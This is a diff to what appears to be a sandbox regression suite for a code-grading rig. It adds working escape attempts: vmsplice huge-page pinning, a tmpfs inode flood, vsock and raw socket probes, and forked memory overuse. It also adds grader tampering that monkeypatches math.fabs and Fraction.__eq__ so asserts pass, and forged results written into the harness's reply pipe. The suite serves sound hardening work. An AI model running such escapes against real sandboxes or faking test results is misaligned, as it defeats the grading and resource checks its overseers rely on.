@@ -48,6 +48,18 @@ MATH_ASSERTS = json.dumps({"asserts": "import math\nassert math.isclose(half(3.0
 IMPORT_ASSERTS = json.dumps(
     {"asserts": "import statistics\nassert statistics.mean([half(3.0), half(5.0)]) == 2.0\nassert half(1.0) == 0.5\n"}
 )
+# HumanEval 32's test: random inputs in a loop, a helper of the prompt; it used to run whole (issue 26, point 5).
+LOOP_ASSERTS = json.dumps(
+    {
+        "asserts": "import math\ndef check(candidate):\n    import random\n    rng = random.Random(42)\n"
+        "    for _ in range(20):\n        coeffs = [rng.randint(1, 9) for _ in range(4)]\n"
+        "        x = candidate(coeffs)\n        assert math.fabs(poly(coeffs, x)) < 1e-4\n"
+        "    from fractions import Fraction\n    assert ratio(1, 3) == Fraction(1, 3)\n",
+        "entry_point": "find_zero",
+    }
+)
+# A set of integers that all hash alike: rebuilt here in quadratic time (9 / 28 / 94 s at 20k / 40k / 80k items).
+COLLIDING_ITEMS = 40_000
 KEY_SECRET = "distill-rig-secret"  # the description of the key holding the HF_TOKEN marker in our session keyring
 KEY_CHANNEL = "distill-channel"  # what a sample leaves in a keyring for the next one
 SHMEM_LIMIT_MB = 512  # host shared memory an attack may add: its tmpfs folders hold 3 x 64 MB per worker
@@ -816,6 +828,129 @@ ATTACKS: list[Attack] = [
             __hash__ = object.__hash__
         def add(a, b):
             return Anything()
+        """,
+        tests=ADD_ASSERTS,
+    ),
+    # Issue 26's escapes: each a class that got out on the code before it.
+    _a(
+        "THP pages pinned by vmsplice",
+        "memory outside RLIMIT_AS: a pipe slot keeps the whole 2 MB huge page of an unmapped region alive",
+        """
+        import ctypes, mmap, os
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.syscall.restype = ctypes.c_long
+        VMSPLICE = 278 if os.uname().machine == "x86_64" else 75
+        class iovec(ctypes.Structure):
+            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+        pinned, pipes = 0, []
+        for _ in range(48):  # 48 pipes x 16 slots x 2 MB: 1.5 GB held by 1 byte a slot
+            r, w = os.pipe()
+            m = mmap.mmap(-1, 32 << 20)
+            m.madvise(mmap.MADV_HUGEPAGE)
+            buf = (ctypes.c_char * len(m)).from_buffer(m)
+            for off in range(0, 32 << 20, 2 << 20):
+                m[off] = 1
+                if libc.syscall(VMSPLICE, w, ctypes.byref(iovec(ctypes.addressof(buf) + off, 1)), 1, 0) != 1:
+                    break
+                pinned += 2
+            del buf
+            m.close()
+            pipes.append((r, w))
+        print("pinned", pinned, "MB", ctypes.get_errno())
+        if pinned >= 256:
+            print("ESCAPED: vmsplice pinned", pinned, "MB of unmapped huge pages")
+        """,
+    ),
+    _a(
+        "tmpfs inode flood",
+        "kernel memory: empty files with long names use no tmpfs blocks (286,720 files in 3 s: 342 MB)",
+        """
+        import os
+        made = 0
+        for folder in ("/tmp", "/dev/shm", "/work"):
+            try:
+                for i in range(60_000):
+                    open(f"{folder}/{i:0240d}", "w").close()
+                    made += 1
+                    if made == 50_000:  # said at once: the wall clock may end the run before the loop does
+                        print("ESCAPED: 50,000 empty files (about 57 MB of kernel memory)", flush=True)
+            except OSError as exc:
+                print(folder, exc.strerror)
+        print("files", made)
+        """,
+    ),
+    _a(
+        "AF_VSOCK and other socket families",
+        "the host's vsock services (vsock is not network-namespaced), netlink, packet and crypto sockets",
+        """
+        import socket
+        for name, family, kind in [("vsock", 40, socket.SOCK_STREAM), ("netlink", 16, socket.SOCK_RAW),
+                                   ("packet", 17, socket.SOCK_RAW), ("alg", 38, socket.SOCK_SEQPACKET)]:
+            try:
+                s = socket.socket(family, kind)
+                if name == "vsock":
+                    s.bind((0xFFFFFFFF, 0))  # VMADDR_CID_ANY
+                    s.listen()
+                print("ESCAPED:", name, "socket opened")
+                s.close()
+            except OSError as exc:
+                print(name, "refused", exc.errno)
+        print(0)
+        """,
+    ),
+    _a(
+        "memory across a process tree",
+        "memory per sample: 10 children of 80 MB each under a 512 MB limit (RLIMIT_AS is per process)",
+        """
+        import os, time
+        r, w = os.pipe()
+        for _ in range(10):
+            if os.fork() == 0:
+                block = bytearray(80 << 20)
+                for i in range(0, len(block), 4096):
+                    block[i] = 1
+                os.write(w, b"x")
+                time.sleep(20)
+                os._exit(0)
+        got = 0
+        while got < 10:
+            got += len(os.read(r, 10))
+        print("ESCAPED: 10 children hold 800 MB together", flush=True)
+        """,
+    ),
+    _a(
+        "loop asserts, patched helpers",
+        "asserts that used to run whole (loops, helpers, imports in check): math.fabs and Fraction.__eq__ patched",
+        """
+        import fractions, math
+        math.fabs = lambda x: 0.0
+        fractions.Fraction.__eq__ = lambda a, b: True
+        def poly(xs, x):
+            return sum(c * x ** i for i, c in enumerate(xs))
+        def find_zero(xs):
+            return 0.0
+        def ratio(a, b):
+            return fractions.Fraction(b, a)
+        """,
+        tests=LOOP_ASSERTS,
+    ),
+    _a(
+        "colliding hashes in the results",
+        "this process: a results line of integers that all hash alike, decoded in quadratic time",
+        f"""
+        import json, os, sys
+        M = (1 << 61) - 1
+        items = [{{"int": hex(M * (i + 1))}} for i in range({COLLIDING_ITEMS})]
+        forged = json.dumps({{"set": items}})
+        def add(a, b):
+            for fd in range(3, 64):  # the reply pipe, when there is one: any pipe it may write
+                try:
+                    if os.readlink(f"/proc/self/fd/{{fd}}").startswith("pipe:") and os.get_blocking(fd) is not None:
+                        os.write(fd, ('{{"v": ' + forged + '}}\\n').encode())
+                except OSError:
+                    pass
+            print("__distill_results__ " + json.dumps([{{"value": json.loads(forged)}}] * 2), flush=True)
+            os._exit(0)
         """,
         tests=ADD_ASSERTS,
     ),
